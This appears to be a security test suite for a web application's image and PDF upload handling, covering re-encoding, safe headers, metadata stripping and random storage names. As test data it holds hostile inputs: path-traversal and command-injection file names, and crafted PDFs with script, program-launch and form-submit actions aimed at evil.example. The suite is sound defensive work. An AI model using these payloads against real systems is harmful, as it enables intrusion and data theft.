import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { chromium } from "@playwright/test";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CHROMIUM_FLAGS, findChromium } from "../../../scripts/chromium.ts";
import { type Installation, openInstallation } from "../installation.ts";
import { maliciousFiles } from "./malicious-files.ts";
import { allFiles, aPdf, flat, sendImage, sendPdf, storedFiles } from "./sending.ts";

let installation: Installation;
beforeAll(async () => {
  installation = await openInstallation();
});
afterAll(() => installation.close());

describe("UPL-1 active content", () => {
  it("active content is stored nowhere as it was sent, and served as no active type: eighty malicious files, texts also as PDFs", async () => {
    const files = await maliciousFiles();
    expect(files.length).toBeGreaterThanOrEqual(80);
    const wrong: unknown[] = [];
    for (const { what, marker, ...sent } of files) {
      for (const send of [sendImage, ...(typeof sent.bytes === "string" ? [sendPdf] : [])]) {
        const { status, body } = await send(installation, sent);
        if (status === 415 || status === 400) continue;
        const stored = await readFile(join(installation.dataDir, "uploads", body.filename));
        const served = await installation.send("GET", body.url);
        const isClean =
          status === 201 && !stored.includes(marker) && !stored.includes("<script") && served.headers.get("content-type") === "image/webp";
        if (!isClean) wrong.push({ what, status, filename: body.filename });
      }
    }
    expect(wrong).toEqual([]);
  });

  it("good content is not mistaken for it: forty good pictures are accepted, with their size", async () => {
    const refused: unknown[] = [];
    for (let n = 0; n < 40; n += 1) {
      const format = (["png", "jpeg", "gif", "webp"] as const)[n % 4] ?? "png";
      const [width, height] = [1 + n * 7, 1 + ((n * 13) % 97)];
      const bytes = await flat(width, height).toFormat(format).toBuffer();
      const { status, body } = await sendImage(installation, { bytes, name: `photo ${n}.${format}`, type: `image/${format}` });
      if (status !== 201 || body.width !== width || body.height !== height) refused.push({ n, format, status, body });
    }
    expect(refused).toEqual([]);
  });
});

it("UPL-2: an upload is served under its own type, never sniffed, and runs nothing when it is opened", async () => {
  const picture = await sendImage(installation, { bytes: await flat(40, 40).png().toBuffer() });
  const pdf = await sendPdf(installation, { bytes: aPdf() });
  for (const [path, type] of [
    [picture.body.url, "image/webp"],
    [picture.body.url.replace(".webp", "-full.avif"), "image/avif"],
    [pdf.body.url, "application/pdf"],
  ]) {
    const { status, headers } = await installation.send("GET", path);
    expect([status, headers.get("content-type"), headers.get("x-content-type-options")], path).toEqual([200, type, "nosniff"]);
    expect(headers.get("content-security-policy"), path).toContain("default-src 'none'");
    expect(headers.get("content-disposition"), path).toMatch(/^inline(?:; filename="notice\.pdf")?$/);
  }
  for (const path of [
    "/uploads/inconnu.webp",
    `/uploads/${"0".repeat(32)}.webp`,
    "/uploads/",
    "/uploads",
    "/uploads/x.html",
    "/uploads/..%2fjwt-secret",
  ]) {
    const { status, headers } = await installation.send("GET", path);
    expect([404, 400], path).toContain(status);
    expect(headers.get("content-type"), path).not.toContain("text/html");
  }
  const browser = await chromium.launch({ executablePath: findChromium(), args: CHROMIUM_FLAGS });
  const page = await browser.newPage();
  const ran: string[] = [];
  page.on("dialog", (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  await page.exposeFunction("canari", () => ran.push("canari"));
  for (const { what, marker: _, ...sent } of await maliciousFiles()) {
    const { status, body } = await sendImage(installation, sent);
    if (status !== 201) continue;
    await page.goto(installation.url() + body.url);
    expect(ran, what).toEqual([]);
  }
  await browser.close();
});

/** Names that lead elsewhere, or that some system takes for something else. */
const ODD_NAMES = [
  "../../x.png",
  "..\\..\\x.png",
  "/etc/x.png",
  "C:\\x.png",
  "%2e%2e%2fx.png",
  "....//x.png",
  "x\0.png",
  "x\r\nX-Injected: 1.png",
  'x".png',
  "x%22.png",
  "\u202egnp.html",
  "e\u0301te\u0301.png",
  "été.png",
  "a".repeat(255),
  `${"a".repeat(251)}.png`,
  "a".repeat(256),
  "a".repeat(300),
  "a".repeat(5000),
  "😀.png",
  "   ",
  ".",
  "..",
  ".htaccess",
  "CON.png",
  "NUL",
  "x.png.",
  "x.png ",
  "x.png::$DATA",
  "-rf.png",
  "--help",
  "<img onerror=alert(1)>.png",
  "x;.png",
  "x'.png",
  "`id`.png",
  "$(id).png",
  "|x.png",
  "x\ty.png",
  "x\u2028y.png",
  "x\ufeffy.png",
  "x\u200by.png",
  "~/x.png",
  "~root",
  "//x/y.png",
  "file:///x.png",
  "http://x/y.png",
  "x?.png",
  "x#.png",
  "x%00.png",
  "x%0d%0a.png",
  "web.config",
  "index.html",
  "x.php",
  "x.shtml",
  "x.png/../y",
  "🏳️‍🌈".repeat(80),
  "\u0000",
  "\u0001x.png",
  "{{7*7}}.png",
  "${7*7}.png",
  "x.png\n",
];

it("UPL-5: whatever a file is called, it is stored under a random name, and shown under one line of plain text", async () => {
  expect(ODD_NAMES.length).toBeGreaterThanOrEqual(60);
  const bytes = await flat(8, 8).png().toBuffer();
  const before = await allFiles(installation);
  for (const name of ODD_NAMES) {
    const { status, body } = await sendImage(installation, { bytes, name });
    expect([201, 400], name).toContain(status);
    if (status !== 201) continue;
    expect(body.filename, name).toMatch(/^[0-9a-f]{32}\.webp$/);
    expect(body.originalName, name).toMatch(/^[^/\\\p{Cc}\p{Bidi_Control}]{1,255}$/u);
  }
  // Renditions are made after the answer.
  let after: string[] = [];
  await expect.poll(async () => (after = await allFiles(installation)).filter((path) => path.includes("/.tmp-"))).toEqual([]);
  const added = after.filter((path) => !before.includes(path));
  expect(added.filter((path) => !/^uploads\/(?:renditions\/)?[0-9a-f]{32}(?:-\w+)?\.(?:webp|avif)$/.test(path))).toEqual([]);
  expect(added.length).toBeGreaterThan(40);
});

it("UPL-9: a photograph loses where it was taken, and stands upright", async () => {
  for (let orientation = 1; orientation <= 8; orientation += 1) {
    const gps = { GPSLatitudeRef: "N", GPSLatitude: "35/1 49/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "10/1 38/1 0/1" };
    const bytes = await flat(60, 40)
      .jpeg()
      .withExif({ IFD0: { Artist: "Leïla", Make: "Appareil" }, IFD3: gps })
      .withMetadata({ orientation })
      .toBuffer();
    expect((await sharp(bytes).metadata()).exif, "the photograph has its data").toBeDefined();
    const { body } = await sendImage(installation, { bytes, name: "photo.jpg", type: "image/jpeg" });
    const paths = [body.url, body.url.replace(".webp", "-full.avif"), body.url.replace(".webp", "-160.webp")];
    for (const path of paths) {
      const served = await installation.send("GET", path);
      expect(served.status, path).toBe(200);
      const { exif, xmp, iptc, orientation: left, width, height } = await sharp(served.bytes).metadata();
      expect([exif, xmp, iptc, left], path).toEqual([undefined, undefined, undefined, undefined]);
      expect(height > width, `${path}, orientation ${orientation}`).toBe(orientation > 4);
      expect(/GPS|Le\u00efla|Appareil/.test(served.bytes.toString("latin1"))).toBe(false);
    }
  }
});

describe("UPL-10 a PDF", () => {
  const action = (what: string) => `/OpenAction<<${what}>>`;
  it.each([
    ["opens with a script", aPdf({ root: action("/S/JavaScript/JS(app.alert\\(1\\))") })],
    ["opens a program", aPdf({ root: action("/S/Launch/F(calc.exe)") })],
    ["opens a site", aPdf({ root: action("/S/URI/URI(https://evil.example)") })],
    ["opens a script by URL", aPdf({ root: action("/S/URI/URI(javascript:alert\\(1\\))") })],
    ["sends a form", aPdf({ root: action("/S/SubmitForm/F(https://evil.example)") })],
    ["holds named scripts", aPdf({ root: "/Names<</JavaScript<</Names[(x)4 0 R]>>>>" })],
    ["holds another file", aPdf({ root: "/Names<</EmbeddedFiles<</Names[(x)4 0 R]>>>>", more: "4 0 obj\n<</Type/EmbeddedFile>>\nendobj" })],
    ["holds an XFA form", aPdf({ root: "/AcroForm<</XFA 4 0 R>>" })],
    ["acts on its pages", aPdf({ more: "4 0 obj\n<</AA<</O<</S/JavaScript/JS(x)>>>>>>\nendobj" })],
    ["plays media", aPdf({ more: "4 0 obj\n<</Subtype/RichMedia>>\nendobj" })],
    ["is encrypted", aPdf({ more: "4 0 obj\n<</Encrypt 5 0 R>>\nendobj" })],
    ["begins with HTML", aPdf({ head: "<html><script>alert(1)</script>\n%PDF-1.4\n" })],
    ["begins late", aPdf({ head: `${" ".repeat(1020)}%PDF-1.4\n` })],
    ["has no pages", Buffer.from("%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n")],
    ["has no end", aPdf().subarray(0, 150)],
    ["is a ZIP", Buffer.concat([Buffer.from("%PDF-"), Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(2000)])],
    ["hides a name", aPdf({ root: "/Open#41ction<</S/J#61vaScript/#4aS(x)>>" })],
  ])("a PDF is refused when it %s", async (_what, bytes) => {
    const { status } = await sendPdf(installation, { bytes });
    expect(status).toBe(415);
  });

  it("that is an ordinary datasheet is accepted: twenty of them, unchanged", async () => {
    const { default: PDFDocument } = await import("pdfkit");
    for (let n = 0; n < 20; n += 1) {
      const document = new PDFDocument({ compress: n % 2 === 0 });
      const chunks: Buffer[] = [];
      document.on("data", (chunk: Buffer) => chunks.push(chunk));
      const ended = new Promise((resolve) => document.on("end", resolve));
      document.text(`Fiche technique ${n} (éclairage)`);
      for (let page = 0; page < n % 5; page += 1) document.addPage().text("Suite").link(0, 0, 100, 20, "https://www.example.com/notice");
      document.end();
      await ended;
      const bytes = Buffer.concat(chunks);
      const { status, body } = await sendPdf(installation, { bytes, name: `fiche ${n}.pdf` });
      expect(status, `datasheet ${n}`).toBe(201);
      expect((await installation.send("GET", body.url)).bytes.equals(bytes)).toBe(true);
    }
  });
});

it("UPL-1: nothing half-written is left after all this", async () => {
  expect((await storedFiles(installation)).filter((name) => name.startsWith(".tmp-"))).toEqual([]);
});
